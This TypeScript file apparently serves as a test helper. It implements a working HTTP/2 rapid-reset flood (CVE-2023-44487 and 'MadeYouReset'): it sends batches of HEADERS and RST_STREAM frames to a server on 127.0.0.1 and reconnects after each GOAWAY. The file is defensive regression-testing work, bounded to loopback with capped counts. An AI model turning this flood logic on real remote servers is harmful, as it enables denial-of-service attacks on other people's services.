/**
 * A raw HTTP/2 client for the rapid-reset attack (CVE-2023-44487, and CVE-2025-8671 "MadeYouReset",
 * oven-sh/bun#36230): over a plain TCP socket to an h2c server on loopback, it writes the connection
 * preface and SETTINGS, then pairs of frames, a HEADERS frame that opens a stream with a whole GET
 * request (END_STREAM) and, right behind it, an RST_STREAM (CANCEL) that closes it, in batches of
 * `batch` pairs per write. Node's http2 clients cannot do this: they wait for streams to open and
 * count them against the server's SETTINGS. A server that runs a handler per stream it saw opened
 * starts one per pair; the stream is gone before any answer.
 *
 * nghttp2 (Node's HTTP/2) answers too many resets on one connection with GOAWAY (its own rapid-reset
 * defence): the flood then opens a new connection and goes on, until `pairs` pairs are written. After
 * its last pair on a connection it sends a PING and waits for its ACK (a server answers PINGs in the
 * order it reads frames, so the ACK means every frame before it was read), or for the connection to
 * close. It answers the server's SETTINGS with an ACK, reads nothing else but PING ACKs and GOAWAY,
 * and bounds itself: at most `pairs` pairs and `MAX_CONNECTIONS` connections. It resolves once every
 * socket it opened is closed.
 *
 * HPACK: the request's header block uses the static table only (RFC 7541 appendix A), no Huffman:
 * `:method: GET` (index 2), `:scheme: http` (index 6), then `:path` and `:authority` as literals
 * without indexing on the static names (indexes 4 and 1), so no dynamic table state is ever shared.
 */
import { connect } from 'node:net';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const PING = 0x6;
const GOAWAY = 0x7;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const ACK = 0x1;
const CANCEL = 0x8;
/** A bound on reconnections: with nghttp2's ~1,000 resets per connection, 10,000 pairs need about 10. */
const MAX_CONNECTIONS = 200;

/** frame writes one HTTP/2 frame: a 9-byte header (length, type, flags, stream id) and its payload. */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** literal is an HPACK literal header field without indexing, on a static table name index below 15. */
function literal(nameIndex: number, value: string): Buffer {
  const bytes = Buffer.from(value, 'latin1');
  if (bytes.length > 126) throw new RangeError(`h2 flood: ${value} is too long for a one-byte HPACK length`);
  return Buffer.concat([Buffer.from([nameIndex, bytes.length]), bytes]);
}

/** pair is HEADERS (a whole GET of `path`) then RST_STREAM (CANCEL) on stream `id`. */
function pair(id: number, block: Buffer): Buffer[] {
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(CANCEL);
  return [frame(HEADERS, END_STREAM | END_HEADERS, id, block), frame(RST_STREAM, 0, id, cancel)];
}

export interface Flooded {
  /** HEADERS+RST pairs written. */
  readonly pairs: number;
  /**
   * Streams the server took: on a connection it closed with GOAWAY, the streams up to the frame's last
   * stream id (those it has acted on or may yet act on, RFC 9113 6.8); on one it did not, every stream
   * written. The server hands exactly these to the application.
   */
  readonly streams: number;
  /** Connections opened. */
  readonly connections: number;
  /** GOAWAY frames received (the server closing a connection it found abusive). */
  readonly goaways: number;
}

/** rapidReset writes `pairs` HEADERS+RST_STREAM pairs for GET `path` to the h2c server at 127.0.0.1:`port`. */
export async function rapidReset(port: number, pairs: number, path = '/', batch = 100): Promise<Flooded> {
  const block = Buffer.concat([Buffer.from([0x82, 0x86]), literal(4, path), literal(1, `127.0.0.1:${port}`)]);
  let sent = 0;
  let connections = 0;
  let goaways = 0;
  let streams = 0;
  while (sent < pairs) {
    if (++connections > MAX_CONNECTIONS) throw new Error(`h2 flood: ${MAX_CONNECTIONS} connections opened for ${sent} of ${pairs} pairs`);
    const socket = connect(port, '127.0.0.1');
    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
    socket.on('error', () => {});
    let open = true;
    let pinged: () => void = () => {};
    const ponged = new Promise<void>((resolve) => (pinged = resolve));
    let lastStream: number | undefined;
    let unread = Buffer.alloc(0);
    socket.on('data', (chunk: Buffer) => {
      unread = Buffer.concat([unread, chunk]);
      while (unread.length >= 9 && unread.length >= 9 + unread.readUIntBE(0, 3)) {
        const type = unread[3];
        if (type === SETTINGS && ((unread[4] as number) & ACK) === 0) socket.write(frame(SETTINGS, ACK, 0, Buffer.alloc(0)));
        if (type === PING && ((unread[4] as number) & ACK) !== 0) pinged();
        if (type === GOAWAY) {
          goaways++;
          open = false;
          pinged();
          lastStream ??= unread.readUInt32BE(9) & 0x7fffffff;
        }
        unread = unread.subarray(9 + unread.readUIntBE(0, 3));
      }
    });
    socket.once('close', () => ((open = false), pinged()));
    socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
    let id = 1;
    while (open && sent < pairs) {
      const frames: Buffer[] = [];
      for (let i = 0; i < batch && sent < pairs; i++, sent++, id += 2) frames.push(...pair(id, block));
      if (!socket.write(Buffer.concat(frames))) await new Promise((resolve) => (socket.once('drain', resolve), socket.once('close', resolve)));
      // Let the client read a GOAWAY between batches, as an attacker's client would.
      await new Promise((resolve) => setImmediate(resolve));
    }
    if (open) {
      socket.write(frame(PING, 0, 0, Buffer.alloc(8)));
      await ponged; // or the connection's close, or a GOAWAY read meanwhile
    }
    socket.end();
    socket.destroySoon();
    await closed;
    // Stream ids are odd and consecutive from 1: the count up to an id is (id + 1) / 2.
    streams += lastStream === undefined ? (id - 1) / 2 : (lastStream + 1) / 2;
  }
  return { pairs: sent, streams, connections, goaways };
}
